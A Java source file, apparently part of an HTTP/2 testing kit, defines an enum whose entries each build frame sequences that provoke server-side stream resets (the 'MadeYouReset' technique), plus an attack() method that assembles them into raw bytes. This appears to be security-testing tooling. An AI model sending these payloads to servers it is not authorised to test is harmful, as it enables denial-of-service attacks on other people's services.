package io.sluice.kit.h2;

import io.sluice.kit.Bytes;
import java.util.List;

/**
 * Frames for which RFC 9113 orders the server to reset a stream (H2-02): the client gets rid of a request without being
 * the one that resets. Each is for a stream whose request has been sent whole, {@link #LENGTH_MISMATCH} excepted.
 */
public enum MadeYouReset {
    /** WINDOW_UPDATE by 0 (6.9). */
    WINDOW_UPDATE_ZERO {
        @Override
        public List<Frame> frames(int stream) {
            return List.of(Frame.windowUpdate(stream, 0));
        }
    },
    /** Two WINDOW_UPDATEs that together pass 2^31-1 (6.9.1). */
    WINDOW_OVERFLOW {
        @Override
        public List<Frame> frames(int stream) {
            Frame most = Frame.windowUpdate(stream, Integer.MAX_VALUE);
            return List.of(most, most);
        }
    },
    /** PRIORITY of 4 bytes (6.3). */
    PRIORITY_LENGTH {
        @Override
        public List<Frame> frames(int stream) {
            return List.of(new Frame(Frame.PRIORITY, 0, stream, new byte[4]));
        }
    },
    /** A stream that depends on itself: a stream error in RFC 7540 5.3.1, without meaning in RFC 9113. */
    PRIORITY_ON_ITSELF {
        @Override
        public List<Frame> frames(int stream) {
            return List.of(Frame.priority(stream, stream, 0x10));
        }
    },
    /** DATA on a stream that is half-closed (5.1). */
    DATA_AFTER_END {
        @Override
        public List<Frame> frames(int stream) {
            return List.of(Frame.data(stream, new byte[] {'x'}, true));
        }
    },
    /** HEADERS on a stream that is half-closed (5.1). */
    HEADERS_AFTER_END {
        @Override
        public List<Frame> frames(int stream) {
            return List.of(Frame.headers(stream, Fields.of("x-late", "1"), true));
        }
    },
    /** Two bytes of DATA for a request that says {@code content-length: 1} and has not ended (8.1.1). */
    LENGTH_MISMATCH {
        @Override
        public List<Frame> frames(int stream) {
            return List.of(Frame.data(stream, new byte[2], true));
        }

        @Override
        public Fields request(Fields head) {
            return head.and("content-length", "1");
        }

        @Override
        public boolean requestEnds() {
            return false;
        }
    };

    /** What follows the request, on its stream. */
    public abstract List<Frame> frames(int stream);

    /** The request that is to be got rid of. */
    public Fields request(Fields head) {
        return head;
    }

    /** The request's HEADERS end its stream. */
    public boolean requestEnds() {
        return true;
    }

    /** The request and what follows it. */
    public byte[] attack(int stream, Fields head) {
        Frame opened = Frame.headers(stream, request(head), requestEnds());
        byte[] rest = Frame.bytes(frames(stream).toArray(new Frame[0]));
        return Bytes.concat(opened.bytes(), rest);
    }
}
